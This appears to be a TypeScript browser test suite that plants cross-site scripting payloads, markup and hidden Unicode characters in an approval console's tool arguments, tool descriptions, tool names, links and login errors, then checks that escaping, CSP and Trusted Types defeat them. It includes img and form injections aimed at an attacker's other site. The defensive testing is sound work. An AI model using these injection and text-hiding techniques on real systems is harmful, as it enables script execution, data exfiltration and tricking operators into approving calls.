import { until } from '../../../support/until.ts';
import type { Attack, Outcome } from '../attack.ts';
import { attackVictim, type Victim } from '../browser-world.ts';
import type { Defence } from '../defences/defence.ts';
import { formTargets, imageSources, scriptSources, trustedTypes } from '../defences/headers.ts';
import {
  blockMarks,
  blockText,
  differenceText,
  documentText,
  failureMarks,
  failureText,
  jsonType,
  lineMarks,
  lineText,
  ownReason,
  problemText,
  reasonText,
} from '../defences/shown-text.ts';
import { post, type Target } from '../target.ts';

const image = '<img src=x onerror=planted=1>';

/** Long enough for a block of its own. */
const long = (text: string): string => `${text}\n${'and so on '.repeat(20)}`;

/** A place of the page that shows foreign text. */
interface Place {
  /** Address in the page. */
  readonly hash: string;
  readonly selector: string;
  /** Things that the operator does before the text is there. */
  readonly act?: (victim: Victim) => Promise<void>;
}

/** Plants a text, and returns where the operator sees it. */
type Plant = (target: Target, text: string) => Promise<Place>;

const inArgument: Plant = async (target, text) => {
  const { id } = await target.hold({ to: text });
  return { hash: `/inbox/${id}`, selector: '.parameters' };
};

const inReason: Plant = async (target, text) => {
  const { id, digest } = await target.hold();
  const site = await target.site();
  const { cookie, csrf } = await target.logIn(site);
  await post(site, `approvals/${id}/decide`, { cookie, 'x-toolkit-csrf': csrf }, { approve: false, digest, reason: text });
  return { hash: `/inbox/${id}?status=all`, selector: '.decisions' };
};

const inResult: Plant = async (_target, text) => ({
  hash: '/tools/echo',
  selector: '.result pre',
  act: async ({ page }) => {
    await page.locator('.call-form textarea, .call-form input[type=text]').first().fill(text);
    await page.locator('.call-form button[type=submit]').click();
  },
});

/** A source is trusted with its first list, and its changes wait for the operator. */
const inDescription: Plant = async (target, text) => {
  await target.list([{ name: 'shelf_read', description: 'Reads.' }]);
  await target.list([{ name: 'shelf_read', description: text }]);
  return { hash: '/sources', selector: '.difference' };
};

const inName: Plant = async (target, text) => {
  await target.list([{ name: text, description: 'Reads.' }]);
  return { hash: '/problems', selector: '.note p:nth-of-type(2)' };
};

const inAddress: Plant = async (_target, text) => ({ hash: `/inbox/${encodeURIComponent(text)}`, selector: '.approval .callout' });

/** Opens the place, whose text appears some time later. */
async function open(victim: Victim, { hash, act }: Place): Promise<void> {
  await victim.page.goto('about:blank');
  await victim.page.goto(`${victim.site.origin}/console#${hash}`);
  await act?.(victim);
}

async function textIn({ page }: Victim, { selector }: Place): Promise<string> {
  return (await page.locator(selector).allInnerTexts()).join('\n');
}

const hasRun = ({ page }: Pick<Victim, 'page'>): Promise<boolean> => page.evaluate("typeof planted !== 'undefined'");

/** Resolves to what is seen of a script: that it ran, or its text. */
async function runScript(target: Target, plant: Plant, text: string): Promise<Outcome> {
  const place = await plant(target, text);
  return attackVictim(target, async (victim) => {
    await open(victim, place);
    const seen = await until(async () => {
      if (await hasRun(victim)) return 'script';
      return (await textIn(victim, place)).includes(image) ? 'text' : undefined;
    });
    return { succeeded: seen === 'script', seen };
  });
}

/** Returns the row of a script in a text of a model or of a source. */
function scriptIn(what: string, where: string, asText: Defence, plant: Plant, text = image): Attack {
  return {
    kind: 'script',
    name: `runs script in ${what}`,
    request: `${image} in ${what}, then GET ${where}`,
    expected: 'text',
    // Without the policy the page alone would decide, and without the page the policy.
    defence: [asText, scriptSources, trustedTypes],
    run: (target) => runScript(target, plant, text),
  };
}

/** Returns the row of characters that hide what the operator approves. */
function hiddenIn(what: string, where: string, marks: Defence, plant: Plant, text: string, character: string): Attack {
  return {
    kind: 'script',
    name: `hides the true text by characters in ${what}`,
    request: `U+${character.charCodeAt(0).toString(16).toUpperCase()} in ${what}, then GET ${where}`,
    expected: 'an escape',
    defence: marks,
    async run(target) {
      const place = await plant(target, text);
      return attackVictim(target, async (victim) => {
        await open(victim, place);
        const mark = `\\u${character.charCodeAt(0).toString(16)}`;
        const seen = await until(async () => {
          const shown = await textIn(victim, place);
          if (shown.includes(character)) return 'the character';
          return shown.includes(mark) ? 'an escape' : undefined;
        });
        return { succeeded: seen === 'the character', seen };
      });
    },
  };
}

/** Returns the row of markup in a page that would read it as such: the policy is what is left. */
function markupThat(
  does: string,
  defence: Defence,
  given: readonly Defence[],
  expected: string,
  plant: (victim: Victim) => Markup,
): Attack {
  return {
    kind: 'script',
    name: `${does} by markup that the page has not escaped`,
    request: 'Markup in an argument of a held call, then GET /console#/inbox/{id}',
    expected,
    defence,
    given,
    run: (target) =>
      attackVictim(target, async (victim) => {
        const { text, act, hasEffect } = plant(victim);
        let refused: string | undefined;
        // The inbox may show a call of an earlier attack, which is refused too.
        await victim.page.goto('about:blank');
        victim.page.on('console', (message) => {
          refused ??= directiveIn(message.text());
        });
        await open(victim, await inArgument(target, long(text)));
        await act?.();
        const seen = await until(async () => ((await hasEffect()) ? 'its effect' : refused));
        return { succeeded: seen === 'its effect', seen };
      }),
  };
}

/** Returns the directive of the policy by which the browser says that it has refused something. */
function directiveIn(message: string): string | undefined {
  if (message.includes("requires 'TrustedHTML' assignment")) return 'require-trusted-types-for';
  return /Content Security Policy directive.*?(script-src|img-src|form-action)/.exec(message)?.[1];
}

interface Markup {
  readonly text: string;
  readonly act?: () => Promise<void>;
  readonly hasEffect: () => boolean | Promise<boolean>;
}

/** Returns the row of a login that shows the reason which a redirect of the OpenID provider brings. */
function errorThat(does: string, given: readonly Defence[], defence: readonly Defence[], expected: string): Attack {
  const error = '<script>planted = 1</script>';
  return {
    kind: 'script',
    name: does,
    request: `GET /console/login/callback?error_description=${error}`,
    expected,
    defence,
    given,
    run: (target) =>
      attackVictim(target, async ({ page }) => {
        const { origin } = await target.site('people');
        let refused: string | undefined;
        page.on('console', (message) => {
          refused ??= directiveIn(message.text());
        });
        await page.goto(`${origin}/console/login/callback?error=access_denied&error_description=${encodeURIComponent(error)}`);
        const seen = await until(async () => {
          if (await hasRun({ page })) return 'script';
          return (await page.locator('#problem').innerText()).includes(error) ? 'text' : refused;
        });
        return { succeeded: seen === 'script', seen };
      }),
  };
}

const inbox = '/console#/inbox/{id}';

/** Attacks by text that a model, a tool or a link brings to the page. In a browser. */
export const script: readonly Attack[] = [
  scriptIn('a short argument of a held call', inbox, lineText, inArgument),
  scriptIn('a long argument of a held call', inbox, blockText, inArgument, long(image)),
  scriptIn('the reason of a decision', inbox, reasonText, inReason),
  scriptIn('the result of a call', '/console#/tools/echo', blockText, inResult),
  scriptIn('the description of a tool of a source', '/console#/sources', differenceText, inDescription),
  scriptIn('the name of a tool of a source', '/console#/problems', problemText, inName),
  scriptIn('a link to the console', '/console#/inbox/<img …>', failureText, inAddress),
  hiddenIn('a short argument of a held call', inbox, lineMarks, inArgument, 'ann@shop.example\u202e', '\u202e'),
  hiddenIn('a long argument of a held call', inbox, blockMarks, inArgument, long('ann@shop\u200b.example'), '\u200b'),
  hiddenIn('a link to the console', '/console#/inbox/{id}', failureMarks, inAddress, 'a\u202eb', '\u202e'),
  {
    kind: 'script',
    name: 'runs script in an answer of the API that is opened as a page',
    request: 'GET /console/api/approvals/{id}, by its address, with <script> in an argument of the call',
    expected: 'application/json',
    // Without its type the policy of the answer would refuse it.
    defence: [jsonType, scriptSources],
    async run(target) {
      const { id } = await target.hold({ to: '<script>planted = 1</script>' });
      return attackVictim(target, async ({ page, site }) => {
        await page.goto(`${site.origin}/console/api/approvals/${id}`);
        return { succeeded: await hasRun({ page }), seen: await page.evaluate<string>('document.contentType') };
      });
    },
  },
  // Without its escapes the policy is left, and without the policy the escapes.
  errorThat('runs script in the error of a login that shows it', [ownReason], [documentText, scriptSources], 'text'),
  errorThat('runs script in the error of a login that shows it as it is', [ownReason, documentText], [scriptSources], 'script-src'),
  markupThat('becomes a part of the page', trustedTypes, [blockText], 'require-trusted-types-for', ({ page }) => ({
    text: '<h4 id=planted>Approved by the owner</h4>',
    hasEffect: async () => (await page.locator('#planted').count()) > 0,
  })),
  markupThat('runs script', scriptSources, [blockText, trustedTypes], 'script-src', (victim) => ({
    text: image,
    hasEffect: () => hasRun(victim),
  })),
  markupThat('sends text to another server', imageSources, [blockText, trustedTypes], 'img-src', ({ attacker }) => {
    const path = attacker.serve('');
    return { text: `<img src="${attacker.otherSite}${path}">`, hasEffect: () => attacker.asked.includes(path) };
  }),
  markupThat('sends a form to another server', formTargets, [blockText, trustedTypes], 'form-action', ({ page, attacker }) => {
    const path = attacker.serve('');
    return {
      text: `<form method="post" action="${attacker.otherSite}${path}"><button id="planted">Approve</button></form>`,
      // Not by Playwright, which waits for the navigation that is refused.
      act: async () => {
        await page.locator('#planted').waitFor();
        await page.evaluate("document.querySelector('#planted').click()");
      },
      hasEffect: () => attacker.asked.includes(path),
    };
  }),
];
